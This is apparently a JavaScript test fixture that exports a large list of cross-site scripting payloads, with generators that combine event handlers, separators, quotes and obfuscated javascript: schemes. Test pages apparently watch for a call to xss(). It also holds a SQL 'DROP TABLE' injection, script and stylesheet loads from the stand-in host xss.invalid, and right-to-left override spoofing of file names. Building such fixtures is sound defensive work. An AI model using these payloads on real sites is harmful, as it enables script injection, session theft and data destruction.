// Texts that have run as scripts, or shown as something else than what was typed, somewhere. Each that could run calls
// `xss()`, which pages of the tests watch. After the collections of OWASP, PortSwigger and Cure53.
const override = '\u202e';
const tick = '`';

/** One of each kind. */
export const kinds = [
    // Elements that run
    '<script>xss()</script>',
    '<ScRiPt >xss()</sCrIpT>',
    '<script/src=//xss.invalid/x.js></script>',
    '<script>/*</script>*/xss()</script>',
    '<scr<script>ipt>xss()</scr</script>ipt>',
    '<script type=module>xss()</script>',
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '</script><script>xss()</script>',
    '</textarea><script>xss()</script>',
    '</title><script>xss()</script>',
    '</style><script>xss()</script>',
    ']]><script>xss()</script>',
    '--><script>xss()</script>',
    '--!><img src onerror=xss()>',
    '<iframe srcdoc="<script>parent.xss()</script>">',
    '<iframe src="javascript:parent.xss()">',
    '<object data="javascript:xss()">',
    '<embed src="data:text/html,<script>xss()</script>">',
    '<base href="https://xss.invalid/">',
    '<meta http-equiv=refresh content="0;url=javascript:xss()">',
    '<link rel=stylesheet href=//xss.invalid/x.css>',
    '<form action="javascript:xss()"><button>x</button></form>',
    '<template><script>xss()</script></template>',
    // Handlers
    '<img src=x onerror=xss()>',
    '<img src=x:x onerror="xss&lpar;&rpar;">',
    `<img src=${tick}x${tick} onerror=xss()>`,
    '<body/onload=xss()>',
    '<video><source onerror=xss()></video>',
    '<audio src onloadstart=xss()>',
    '<details/open/ontoggle=xss()>',
    '<input autofocus onfocus=xss()>',
    '<marquee onstart=xss()>x</marquee>',
    '<p onpointerenter=xss() style=position:fixed;inset:0>x',
    '" onmouseover="xss()" x="',
    "' onfocus='xss()' autofocus='",
    '" autofocus onfocus=xss() "',
    '<a href=# onclick=xss()>x</a>',
    // SVG and MathML, and what changes its meaning when it is parsed twice
    '<svg onload=xss()//',
    '<svg><script>xss()</script></svg>',
    '<svg><animate onbegin=xss() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
    '<svg><style><img src=x onerror=xss()></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
    '<math href="javascript:xss()">x</math>',
    '<listing>&lt;img src=x onerror=xss()&gt;</listing>',
    '<p id="</p><img src=x onerror=xss()>">',
    // Addresses
    'javascript:xss()',
    'JaVaScRiPt:xss()',
    'java&#9;script:xss()',
    'data:text/html,<script>xss()</script>',
    'vbscript:xss()',
    '//xss.invalid/%0d%0aSet-Cookie:x=1',
    '[x](javascript:xss())',
    '![x](x"onerror="xss())',
    // Templates
    '{{constructor.constructor("xss()")()}}',
    '{{7*7}}${7*7}#{7*7}<%= 7*7 %>',
    '${xss()}',
    '{{name}} $t(app.name)',
    '$t(nav.signOut)',
    'a:b.c',
    '__proto__',
    '%s %d %n {0}',
    // Entities, encodings, quotes of other languages
    '&lt;script&gt;xss()&lt;/script&gt;',
    '&#60;img src=x onerror=xss()&#62;',
    '\\u003cscript\\u003exss()\\u003c/script\\u003e',
    '%3Cscript%3Exss()%3C/script%3E',
    '+ADw-script+AD4-xss()+ADw-/script+AD4-',
    '＜script＞xss()＜/script＞',
    '\\x3cimg src=x onerror=xss()\\x3e',
    "'; DROP TABLE users; --",
    '"}];xss();//',
    '{"type":"x","$$typeof":"Symbol(react.element)"}',
    // Styles
    '<style>@import "//xss.invalid/x.css";</style>',
    '<div style="background:url(javascript:xss())">',
    '};body{background:red}',
    // One for many places
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */xss())//</stYle/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>',
    // What is typed and what is seen
    `Luna${override}gpj.exe`,
    'Luna\u2066anuL\u2069',
    'L\u0075\u0301na\u0336\u0489\u0489',
    '👩\u200d👩\u200d👧 :smile: :script: *a* _b_ ~c~',
    'Ｌｕｎａ Lunа',
    'مرحبا <b>Luna</b> שלום',
];

// What filters forget one of: every handler that runs without a click, what may stand between an element's name and
// its handler, and the ways to write one letter of a scheme.
const handlers = {
    'bgsound src=x': ['onerror'],
    'keygen autofocus': ['onfocus'],
    'isindex type=image src=1': ['onerror'],
    'meter autofocus tabindex=1': ['onfocus'],
    'video poster=x': ['onerror', 'onwaiting'],
    'summary autofocus tabindex=1': ['onfocus', 'onauxclick'],
    'label autofocus tabindex=1': ['onfocusin'],
    'math tabindex=1 autofocus': ['onfocus'],
    'svg': ['onload', 'onfocusin autofocus tabindex=1'],
    'svg><animate attributeName=x dur=1s': ['onbegin', 'onend', 'onrepeat repeatCount=2'],
    'svg><set attributeName=x to=y dur=1s': ['onbegin', 'onend'],
    'img src': ['onerror', 'onload', 'onloadstart'],
    'img srcset=,,,,': ['onerror'],
    'image src': ['onerror'],
    'video src=x': ['onerror', 'onloadstart', 'onsuspend', 'onabort', 'oncanplay', 'onplay autoplay'],
    'audio src=x': ['onerror', 'onloadstart', 'onemptied', 'ondurationchange'],
    'body': ['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onmessage', 'onresize', 'onscroll', 'onunhandledrejection'],
    'iframe src=about:blank': ['onload'],
    'object data=x': ['onerror', 'onload'],
    'embed src=x': ['onerror', 'onload'],
    'link rel=stylesheet href=x': ['onerror', 'onload'],
    'script src=x': ['onerror', 'onload'],
    'style': ['onload'],
    'input type=image src=x': ['onerror', 'onload'],
    'textarea autofocus': ['onfocus'],
    'select autofocus': ['onfocus'],
    'button autofocus': ['onfocus', 'onblur'],
    'a href=# autofocus': ['onfocus'],
    'details open': ['ontoggle'],
    'dialog open': ['onclose', 'oncancel'],
    'p contenteditable autofocus': ['onfocus', 'onbeforeinput'],
    'p style=animation:x': ['onanimationstart', 'onanimationend', 'onwebkitanimationstart'],
    'p style=transition:all': ['ontransitionrun', 'ontransitionend'],
    'xss id=x tabindex=1': ['onfocus', 'onbeforematch hidden=until-found', 'onpointerrawupdate'],
    'button popovertarget=x>x</button><xss id=x popover': ['onbeforetoggle'],
    'track src=x': ['onerror', 'oncuechange'],
    'marquee loop=1': ['onstart', 'onfinish', 'onbounce'],
    'frameset': ['onload', 'onpageshow'],
};
const separators = ['/', '//', '/x/', '\t', '%0c', '\n', '+', '/ /', '"', "'", '\u00a0', '\u3000', '/*x*/', '&#32;'];
const quotes = [['"', '"'], ["'", "'"], [tick, tick], ['&quot;', '&quot;'], ['\u2019', '\u2019']];
const schemes = [
    '%01javascript:', '&#1;javascript:', ' javascript:', 'java\tscript:', 'java\nscript:', 'java%0dscript:', 'java%00script:', 'java&#0;script:', 'javascript\t:',
    '&#106;avascript:', '&#x6A;avascript:', '&#0000106avascript:', 'javascript&colon;', 'javascript&#58;', 'java&Tab;script:',
    'java&NewLine;script:', '%6aavascript:', '\\u006aavascript:', 'javaſcript:', 'feed:javascript:', 'view-source:javascript:',
    'blob:javascript:', 'javascript://%0a', 'javascript://\u2028', 'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==//',
    'data:image/svg+xml,<svg onload=',
];

export const hostileTexts = [
    ...kinds,
    ...Object.entries(handlers).flatMap(([element, events]) => events.map((event) => {
        const [name, ...more] = event.split(' ');
        return `<${[element, ...more, `${name}=xss()`].join(' ')}>`;
    })),
    ...separators.map((separator) => `<svg${separator}onload=xss()>`),
    ...quotes.map(([open, close]) => `<img src=${open}x${close}onerror=${open}xss()${close}>`),
    ...schemes.map((scheme) => `<a href="${scheme}xss()">x</a>`),
];

/** Controls, other line breaks and marks of direction: one line of text does not take them. */
export const isRefusedInOneLine = (text) => /[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u206f]/u.test(text);
